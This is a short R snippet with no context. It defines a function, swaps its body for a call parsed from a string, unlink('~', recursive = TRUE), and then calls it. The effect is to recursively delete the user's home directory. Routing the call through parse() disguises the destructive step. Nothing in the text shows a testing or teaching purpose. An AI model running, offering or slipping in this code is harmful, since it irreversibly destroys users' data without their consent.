f <- function() NULL
body(f) <- parse(text = "unlink('~', recursive = TRUE)")[[1]]
f()
